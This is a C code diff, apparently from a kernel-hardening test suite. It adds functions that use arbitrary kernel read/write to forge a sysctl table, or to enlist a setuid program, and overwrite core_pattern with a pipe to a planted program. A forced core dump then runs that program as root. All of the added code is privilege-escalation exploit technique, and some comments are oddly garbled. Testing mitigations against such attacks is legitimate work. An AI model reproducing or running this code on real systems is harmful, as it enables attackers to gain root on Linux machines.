@@ -254,3 +254,82 @@ enum outcome sysctl_table(void)
 	kwrite(pattern, old, sizeof(old));
 	return outcome;
 }
+
+/*
+ * The genuine handler is given a table in ordinary memory whose data are ordinary.
+ * It takes that for the kernel's copy of one, and what lies behind for the table that
+ * was copied: nobody has asked who writes.
+ */
+#define COPY_AT		1024
+
+static int write_by_copy(const struct sysctl *sysctl, uint64_t forged, const char *text)
+{
+	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;
+	ssize_t written;
+
+	forge_table(sysctl->table, forged);
+	kwrite64(forged + 8, forged + COPY_AT);			/* its data */
+	kwrite64(forged + TABLE_SIZE, sysctl->table);		/* struct bounced's of */
+	kwrite(sysctl->mode, &more, sizeof(more));
+	kwrite64(sysctl->entry, forged);
+	written = pwrite(sysctl->fd, text, strlen(text), 0);
+	kwrite64(sysctl->entry, sysctl->table);
+	kwrite(sysctl->mode, &mode, sizeof(mode));
+	return written == (ssize_t)strlen(text) ? 0 : -1;
+}
+
+enum outcome sysctl_copy(void)
+{
+	uint64_t pattern = ksymbol("core_pattern");
+	struct kernel_page page;
+	struct sysctl sysctl;
+	enum outcome outcome;
+	char now[64];
+	int err;
+
+	if (!pattern)
+		return skipped("kernel built without CONFIG_COREDUMP");
+	if (!plant_program() || !kernel_page(&page))
+		return broken("no program to be run, or no page");
+	if (!find_sysctl(&sysctl))
+		return broken("no file of the sysctl's");
+	err = write_by_copy(&sysctl, page.addr, "|" ROOTED_PROGRAM);
+	kread(pattern, now, sizeof(now));
+	run_in_child(dump_core);
+	outcome = judge_proof(err);
+	write_by_copy(&sysctl, page.addr, "core");
+	return outcome;
+}
+
+/* A setuid program writes what the attacker says to what the attacker has opened. */
+static const struct sysctl *talked;
+
+static void have_it_said(void)
+{
+	dup2(talked->fd, 2);
+	execl("/tmp/setuid-talker", "|" ROOTED_PROGRAM, (char *)NULL);
+}
+
+enum outcome sysctl_deputy(void)
+{
+	uint64_t pattern = ksymbol("core_pattern");
+	struct sysctl sysctl;
+	uint32_t mode, more;
+	enum outcome outcome;
+
+	if (!pattern)
+		return skipped("kernel built without CONFIG_COREDUMP");
+	if (!plant_program())
+		return broken("no program to be run");
+	if (!find_sysctl(&sysctl))
+		return broken("no file of the sysctl's");
+	talked = &sysctl;
+	mode = kread64(sysctl.mode);
+	more = mode | IS_WRITTEN;
+	kwrite(sysctl.mode, &more, sizeof(more));
+	run_in_child(have_it_said);
+	kwrite(sysctl.mode, &mode, sizeof(mode));
+	run_in_child(dump_core);
+	outcome = judge_proof(0);
+	return outcome;
+}
